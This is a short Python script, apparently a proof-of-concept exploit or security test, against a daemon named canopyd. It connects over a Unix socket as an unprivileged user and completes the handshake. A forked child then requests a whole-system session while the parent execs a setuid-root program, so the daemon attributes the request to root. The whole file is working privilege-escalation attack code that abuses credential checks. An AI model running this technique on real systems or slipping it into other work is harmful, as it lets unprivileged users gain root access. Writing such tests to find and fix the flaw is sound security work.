#!/usr/bin/env python3
"""Borrow capabilities through exec: connect to canopyd as an unprivileged user, let the
daemon accept (hello answered), then exec a setuid-root program in this process while a
forked child keeps the socket and asks for a whole-system session. Prints the reply."""
import json, os, socket, sys, time
path, prog = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
def call(req):
    s.sendall((json.dumps(req) + "\n").encode())
    buf = b""
    while b"\n" not in buf:
        d = s.recv(65536)
        if not d:
            raise EOFError
        buf += d
    return json.loads(buf.split(b"\n", 1)[0])
call({"cmd": "hello"})
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(r)
    time.sleep(1.0)  # the parent is now the setuid program
    rep = call({"cmd": "system", "duration": "1s"})
    sys.stdout.write(json.dumps(rep) + "\n")
    sys.stdout.flush()
    os._exit(0)
os.close(w)
# Parent: stdin from the pipe's read end keeps the setuid program waiting for input; it ends
# when the child's write end closes.
os.dup2(r, 0)
os.execv(prog, [prog, "root"])
